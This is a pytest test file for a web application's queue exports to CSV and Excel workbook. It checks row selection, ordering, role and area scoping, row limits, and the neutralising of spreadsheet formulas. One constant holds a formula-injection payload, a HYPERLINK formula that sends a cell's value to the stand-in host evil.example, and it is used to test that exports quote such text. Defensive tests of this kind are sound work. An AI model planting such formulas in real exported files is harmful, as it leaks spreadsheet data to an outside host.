"""Both queues download as CSV and as a workbook: exactly the rows the filters, search and
sort select, every page, in the page's order and the reader's scope; formula-looking text
stays text; too many rows are refused with what to do."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.web.queue_helpers import as_role
from tests.web.queue_rows import QUEUES, link

pytestmark = pytest.mark.parametrize("queue", QUEUES.values(), ids=QUEUES.keys())
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def sheet_rows(response) -> list[dict[str, object]]:
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    headings, *rows = sheet.iter_rows()
    names = [cell.value for cell in headings]
    return [dict(zip(names, row, strict=True)) for row in rows]


def test_both_files_hold_every_selected_row_across_pages_in_the_page_order(client, db_url, queue):
    keys = [f"BULK-{n:03d}" for n in range(150)]
    queue.add(db_url, [{"key": key} for key in keys] + [{"key": "OTHER-1"}])
    as_role(client, "admin")
    query = "?q=bulk&sort=key&dir=desc"
    page = client.get(queue.url + query).get_data(as_text=True)
    path, args = link(page, "Download CSV")
    assert path == f"{queue.url}/export.csv"
    assert args == {"status": ["open"], "q": ["bulk"], "sort": ["key"], "dir": ["desc"]}
    assert link(page, "Download workbook")[0] == f"{queue.url}/export.xlsx"

    as_csv = client.get(f"{queue.url}/export.csv{query}")
    assert [row[queue.key_heading] for row in csv_rows(as_csv)] == keys[::-1]
    stem = queue.url.strip("/").replace("errors", "error-queue")
    assert f"filename={stem}_20" in as_csv.headers["Content-Disposition"]
    as_xlsx = client.get(f"{queue.url}/export.xlsx{query}")
    assert [row[queue.key_heading].value for row in sheet_rows(as_xlsx)] == keys[::-1]
    assert ".xlsx" in as_xlsx.headers["Content-Disposition"]


def test_formula_looking_text_comes_out_as_text(client, db_url, queue):
    queue.add(db_url, [{"key": "-1+2", "message": EVIL}])
    as_role(client, "admin")
    [row] = csv_rows(client.get(f"{queue.url}/export.csv"))
    assert row[queue.key_heading] == "'-1+2"
    assert next(value for value in row.values() if "HYPERLINK" in value) == "'" + EVIL
    [cells] = sheet_rows(client.get(f"{queue.url}/export.xlsx"))
    [message] = [cell for cell in cells.values() if cell.value == EVIL]
    assert message.data_type == "s" and message.quotePrefix
    assert cells[queue.key_heading].data_type == "s" and cells[queue.key_heading].quotePrefix


def test_a_role_without_the_queue_cannot_download_it(client, db_url, queue):
    queue.add(db_url, [{"key": "SO-1"}])
    as_role(client, queue.refused_role)
    assert client.get(queue.url).status_code == 403
    assert client.get(f"{queue.url}/export.csv").status_code == 403
    assert client.get(f"{queue.url}/export.xlsx").status_code == 403


def test_a_scoped_role_downloads_only_its_area(client, db_url, queue):
    queue.add(
        db_url,
        [{"key": "MINE-1", "area": queue.its_area}, {"key": "THEIRS-1", "area": queue.other_area}],
    )
    as_role(client, queue.scoped_role)
    assert queue.keys(client.get(f"{queue.url}?status=all").get_data(as_text=True)) == ["MINE-1"]
    for fmt in ("csv", "xlsx"):
        response = client.get(f"{queue.url}/export.{fmt}?status=all")
        rows = csv_rows(response) if fmt == "csv" else sheet_rows(response)
        keys = [row[queue.key_heading] for row in rows]
        assert [getattr(key, "value", key) for key in keys] == ["MINE-1"], fmt


def test_too_many_rows_send_the_reader_back_to_narrow_the_filters(
    client, db_url, queue, monkeypatch
):
    monkeypatch.setattr("web.queue_export.EXPORT_MAX", 2)
    queue.add(db_url, [{"key": f"K-{n}"} for n in range(3)])
    as_role(client, "admin")
    response = client.get(f"{queue.url}/export.xlsx?q=k-")
    assert response.status_code == 302
    assert response.location == f"{queue.url}?status=open&q=k-"
    page = client.get(response.location).get_data(as_text=True)
    assert "These filters select 3" in page and "Narrow the filters or the search" in page
    assert len(csv_rows(client.get(f"{queue.url}/export.csv?q=k-1"))) == 1
